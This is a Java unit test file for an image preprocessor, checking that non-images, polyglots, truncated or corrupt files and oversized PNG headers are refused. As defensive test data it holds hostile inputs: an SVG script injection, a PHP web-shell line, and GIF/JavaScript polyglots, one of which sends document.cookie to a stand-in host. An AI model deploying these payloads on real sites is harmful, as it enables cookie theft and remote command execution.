package io.percept.vision;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import io.percept.contract.ErrorCode;
import io.percept.contract.PerceptException;
import io.percept.fuzz.Cost;
import io.percept.vision.codec.ImageLimits;
import java.io.ByteArrayOutputStream;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.Arrays;
import java.util.List;
import java.util.Random;
import java.util.zip.CRC32;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Everything that is not a whole, honest image is refused with a reason, and never becomes half a picture. */
class BadImageTest {

    private final ImagePreprocessor preprocessor = new ImagePreprocessor(Fixtures.spec(Fixtures.SIZE));

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "just some words | no image of a known kind",
                "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg> | SVG",
                "<?xml version='1.0'?><svg/> | SVG",
                "<!DOCTYPE html><html><body>Not found</body></html> | HTML",
                "%PDF-1.7 | PDF",
                "#!/bin/sh | script",
                "<?php system($_GET['c']); | script",
                "BM, the abbreviation, begins this sentence | no image",
                "'' | empty"
            })
    void shouldRefuseWhatIsNoImage(String content, String reason) {
        PerceptException refused = refuse(content.getBytes(StandardCharsets.UTF_8));

        assertThat(refused.code()).isEqualTo(ErrorCode.UNSUPPORTED_MEDIA);
        assertThat(refused).hasMessageContaining(reason).hasMessageContaining("send the image as");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "GIF89a/*............*/=1;alert(document.domain)//",
                "GIF89a=1;alert(document.domain);// and more of it to fill the line",
                "GIF87a    =0\nfetch('https://example.org/?'+document.cookie)"
            })
    void shouldRefuseAScriptThatBeginsLikeAGif(String polyglot) {
        assertThat(refuse(polyglot.getBytes(StandardCharsets.ISO_8859_1)).code())
                .isEqualTo(ErrorCode.UNSUPPORTED_MEDIA);
    }

    @ParameterizedTest
    @ValueSource(strings = {"rgb.png", "photo.gif", "animated.gif", "rgb.bmp", "420.jpg", "lossless.webp"})
    void shouldRefuseAScriptBehindAnImage(String name) {
        byte[] polyglot = join(Fixtures.bytes(name), "<script>alert(1)</script>".getBytes(StandardCharsets.UTF_8));

        assertThat(refuse(polyglot).code()).isEqualTo(ErrorCode.UNSUPPORTED_MEDIA);
    }

    @ParameterizedTest
    @ValueSource(strings = {"%PDF-1.7\n1 0 obj", "PK\u0003\u0004 an archive", "<html><body>", "#!/bin/sh\nrm"})
    void shouldRefuseADocumentOrArchiveBehindAnImage(String second) {
        for (String name : List.of("rgb.png", "photo.gif", "rgb.bmp", "420.jpg", "lossless.webp")) {
            byte[] polyglot = join(Fixtures.bytes(name), second.getBytes(StandardCharsets.ISO_8859_1));

            assertThat(refuse(polyglot).code()).as(name).isEqualTo(ErrorCode.UNSUPPORTED_MEDIA);
        }
    }

    /** What stands in comments and metadata is never read, and the bytes are never given out as they came. */
    @ParameterizedTest
    @ValueSource(strings = {"<html><script>alert(1)</script></html>", "%PDF-1.7", "<?php system('id'); ?>"})
    void shouldPassOverMarkupInAComment(String comment) {
        byte[] bytes = comment.getBytes(StandardCharsets.ISO_8859_1);

        assertThat(preprocessor
                        .prepare(Forged.jpegWith(Fixtures.bytes("420.jpg"), Forged.segment(0xFE, bytes)))
                        .rgb())
                .isEqualTo(Fixtures.expected("420.jpg"));
        assertThat(preprocessor
                        .prepare(Forged.pngWith(Fixtures.bytes("rgb.png"), Forged.pngChunk("tEXt", bytes)))
                        .rgb())
                .isEqualTo(Fixtures.expected("rgb.png"));
    }

    @Test
    void shouldAcceptWhatCamerasAppend() {
        byte[] appended = join(Fixtures.bytes("420.jpg"), new byte[5000]);

        assertThat(preprocessor.prepare(appended).rgb()).isEqualTo(Fixtures.expected("420.jpg"));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "420.jpg",
                "progressive.jpg",
                "large.jpg",
                "large-progressive.jpg",
                "cmyk.jpg",
                "restart.jpg",
                "rgb.png",
                "interlaced.png",
                "palette.png",
                "photo.gif",
                "lossless.webp",
                "lossy.webp",
                "rgb.bmp"
            })
    void shouldSayTruncatedWhereverTheFileIsCut(String name) {
        byte[] whole = Fixtures.bytes(name);
        byte[] intact = preprocessor.prepare(whole).rgb();
        int step = Math.max(1, whole.length / 97);
        for (int length = 32; length < whole.length - 3; length += step) {
            int cut = length;
            byte[] part = Arrays.copyOf(whole, cut);
            // A cut that leaves every pixel may pass; a picture that differs may not.
            try {
                assertThat(preprocessor.prepare(part).rgb())
                        .as("cut at %d", cut)
                        .isEqualTo(intact);
            } catch (PerceptException e) {
                assertThat(e.code()).as("cut at %d: %s", cut, e.getMessage()).isEqualTo(ErrorCode.IMAGE_TRUNCATED);
            }
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"420.jpg", "progressive.jpg", "rgb.png", "photo.gif", "lossless.webp", "rgb.bmp"})
    void shouldSayTruncatedOfHalfAFile(String name) {
        byte[] whole = Fixtures.bytes(name);

        PerceptException refused = refuse(Arrays.copyOf(whole, whole.length / 2));

        assertThat(refused.code()).isEqualTo(ErrorCode.IMAGE_TRUNCATED);
        assertThat(refused).hasMessageContaining("send the whole file again");
    }

    @Test
    void shouldSayCorruptWhereAPngChecksumIsWrong() {
        byte[] damaged = Fixtures.bytes("rgb.png");
        damaged[damaged.length / 2] ^= 0x10;

        assertThat(refuse(damaged).code()).isEqualTo(ErrorCode.IMAGE_CORRUPT);
    }

    @Test
    void shouldSayCorruptWhereJpegDataStopAtAMarker() {
        byte[] whole = Fixtures.bytes("420.jpg");
        byte[] damaged = Arrays.copyOf(whole, whole.length * 3 / 4);
        damaged[damaged.length - 2] = (byte) 0xFF;
        damaged[damaged.length - 1] = (byte) 0xD9;

        assertThat(refuse(damaged).code()).isEqualTo(ErrorCode.IMAGE_CORRUPT);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "420.jpg",
                "progressive.jpg",
                "restart.jpg",
                "grey-1bit.png",
                "interlaced.png",
                "palette-transparent.png",
                "photo.gif",
                "interlaced.gif",
                "lossy.webp",
                "alpha.webp",
                "palette.bmp"
            })
    void shouldEitherDecodeOrRefuseDamagedFiles(String name) {
        long seed = 20_241;
        Random random = new Random(seed);
        for (int round = 0; round < 150; round++) {
            byte[] damaged = Fixtures.bytes(name);
            for (int flips = 1 + random.nextInt(4); flips > 0; flips--) {
                damaged[random.nextInt(damaged.length)] = (byte) random.nextInt(256);
            }
            try {
                assertThat(preprocessor.prepare(damaged).rgb()).hasSize(Fixtures.SIZE * Fixtures.SIZE * 3);
            } catch (PerceptException e) {
                assertThat(e.code())
                        .as("seed %d round %d", seed, round)
                        .isIn(
                                ErrorCode.IMAGE_CORRUPT,
                                ErrorCode.IMAGE_TRUNCATED,
                                ErrorCode.IMAGE_TOO_LARGE,
                                ErrorCode.UNSUPPORTED_MEDIA);
            }
        }
    }

    @Test
    void shouldRefuseAHugePngFromItsHeaderForNothing() {
        byte[] bomb = pngHeader(50_000, 50_000);

        // Processor time of this thread alone, and many times what it takes: what else the machine does is not in it.
        Cost.keepBelow(200_000, Duration.ofMillis(500), () -> refuse(bomb));

        PerceptException refused = refuse(bomb);
        assertThat(refused.code()).isEqualTo(ErrorCode.IMAGE_TOO_LARGE);
        assertThat(refused).hasMessageContaining("50000x50000").hasMessageContaining("50000000");
    }

    @Test
    void shouldRefuseMoreBytesThanAllowed() {
        ImagePreprocessor strict =
                new ImagePreprocessor(Fixtures.spec(8), new ImageLimits(1000, 1_000_000), FrameOptions.STILL);

        PerceptException refused =
                catchThrowableOfType(PerceptException.class, () -> strict.prepare(Fixtures.bytes("rgb.png")));

        assertThat(refused.code()).isEqualTo(ErrorCode.IMAGE_TOO_LARGE);
    }

    private PerceptException refuse(byte[] bytes) {
        PerceptException refused = catchThrowableOfType(PerceptException.class, () -> preprocessor.prepare(bytes));
        assertThat(refused).as("refusal").isNotNull();
        return refused;
    }

    private static byte[] pngHeader(int width, int height) {
        ByteBuffer header = ByteBuffer.allocate(17)
                .put("IHDR".getBytes(StandardCharsets.US_ASCII))
                .putInt(width)
                .putInt(height)
                .put(new byte[] {8, 2, 0, 0, 0});
        CRC32 crc = new CRC32();
        crc.update(header.array());
        ByteBuffer file = ByteBuffer.allocate(8 + 4 + 17 + 4);
        file.put(new byte[] {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1A, '\n'});
        file.putInt(13).put(header.array()).putInt((int) crc.getValue());
        return file.array();
    }

    private static byte[] join(byte[] first, byte[] second) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(first);
        out.writeBytes(second);
        return out.toByteArray();
    }
}
